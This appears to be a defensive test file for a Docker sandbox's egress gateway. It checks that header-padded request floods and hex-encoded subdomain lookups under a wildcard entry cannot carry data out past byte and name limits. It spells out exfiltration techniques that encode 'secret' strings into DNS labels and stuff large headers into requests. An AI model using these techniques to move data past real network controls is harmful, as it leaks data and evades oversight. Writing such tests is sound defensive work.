/**
 * Adversarial: a command in allowlist mode carrying data out through what the gateway lets through,
 * not around it. Header-only requests to an allowed origin must stay within `--egress-limit` (heads
 * count), and names under a wildcard entry, each of which the host looks up, are bounded in number.
 * Checked from the host: the bytes the origin received, the names the resolver was asked for.
 */
import { createServer, type Server } from "node:http";
import type { Socket } from "node:net";
import { describe, expect, it } from "vitest";
import { DockerSandbox } from "../../../src/sandbox/docker/docker-sandbox.js";
import { DEFAULT_WILDCARD_NAMES } from "../../../src/sandbox/egress/egress-gateway.js";
import { skipDocker } from "../../support/docker-available.js";
import { makeWorkspace } from "../../support/workspace.js";
import { collectRecords, eventually, loopbackLookup } from "../egress-fixture.js";

/** An HTTP origin on the host's loopback that counts every byte it receives, heads included. */
async function countingOrigin(): Promise<{ port: number; received: () => number } & AsyncDisposable> {
  let received = 0;
  const server: Server = createServer((req, res) => {
    req.resume();
    req.on("end", () => res.end("ok"));
  });
  server.on("connection", (socket: Socket) => {
    socket.on("data", (chunk: Buffer) => {
      received += chunk.length;
    });
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", () => resolve()));
  return {
    port: (server.address() as { port: number }).port,
    received: () => received,
    [Symbol.asyncDispose]: () =>
      new Promise<void>((resolve) => {
        server.closeAllConnections();
        server.close(() => resolve());
      }),
  };
}

/** Python: GET each URL of argv[2:] through the proxy variables with argv[1] bytes of header; print the statuses. */
const FLOOD = `
import sys, urllib.request, urllib.error
fill = "f" * int(sys.argv[1])
counts = {}
for url in sys.argv[2:]:
    try:
        status = urllib.request.urlopen(urllib.request.Request(url, headers={"X-Fill": fill}), timeout=15).status
    except urllib.error.HTTPError as e:
        status = e.code
    except Exception as e:
        status = type(e).__name__
    counts[status] = counts.get(status, 0) + 1
print(counts)
`;

function flood(fill: number, urls: readonly string[]): string {
  return `python3 - ${fill} ${urls.map((u) => `'${u}'`).join(" ")} <<'EOF'\n${FLOOD}\nEOF`;
}

describe.skipIf(skipDocker)("adversarial: carrying data out through the gateway", () => {
  it("keeps 250 header-only requests with 8 KB headers within --egress-limit, as the origin counts", async () => {
    await using origin = await countingOrigin();
    using ws = makeWorkspace();
    const limit = 100_000;
    await using sandbox = await DockerSandbox.open({
      workspace: ws.path,
      removeOnStop: true,
      egress: { allowHosts: [`origin.example.org:${origin.port}`], allowPrivate: true, limitBytes: limit },
      egressLookup: loopbackLookup,
    });
    const records = collectRecords(sandbox);
    const urls = Array.from({ length: 250 }, (_, i) => `http://origin.example.org:${origin.port}/${i}`);
    const result = await sandbox.exec(flood(8_000, urls), { callId: "flood", timeoutMs: 120_000 });
    expect(origin.received()).toBeLessThanOrEqual(limit);
    expect(result.stdout).toMatch(/403: \d+/);
    const reason = `egress limit of ${limit} bytes reached (--egress-limit)`;
    expect(result.egressDenied?.[0]).toMatchObject({ host: "origin.example.org", reason });
    await eventually(() => records.length >= 250);
    expect(records.at(-1)).toMatchObject({ allowed: false, status: 403, reason });
  });

  it(`looks up at most ${DEFAULT_WILDCARD_NAMES} distinct names under a wildcard entry, each recorded`, async () => {
    await using origin = await countingOrigin();
    using ws = makeWorkspace();
    const asked: string[] = [];
    await using sandbox = await DockerSandbox.open({
      workspace: ws.path,
      removeOnStop: true,
      egress: { allowHosts: [`*.example.org:${origin.port}`], allowPrivate: true },
      egressLookup: (name) => {
        asked.push(name);
        return loopbackLookup(name);
      },
    });
    const records = collectRecords(sandbox);
    // Hex "data" labels, as an exfiltrating task would send them.
    const urls = Array.from(
      { length: 100 },
      (_, i) => `http://${Buffer.from(`secret-${i}`).toString("hex")}.example.org:${origin.port}/`,
    );
    const result = await sandbox.exec(flood(0, urls), { callId: "names", timeoutMs: 120_000 });
    expect(result.stdout).toContain(`{200: ${DEFAULT_WILDCARD_NAMES}, 403: ${100 - DEFAULT_WILDCARD_NAMES}}`);
    expect(new Set(asked).size).toBe(DEFAULT_WILDCARD_NAMES);
    const reason = `*.example.org already had ${DEFAULT_WILDCARD_NAMES} distinct names looked up this run, the most one wildcard entry may (--egress-wildcard-names raises it)`;
    expect(result.egressDenied?.[0]).toMatchObject({ reason });
    await eventually(() => records.length >= 100);
    expect(new Set(records.flatMap((r) => (r.lookedUp === undefined ? [] : [r.lookedUp])))).toEqual(
      new Set(asked),
    );
  });
});
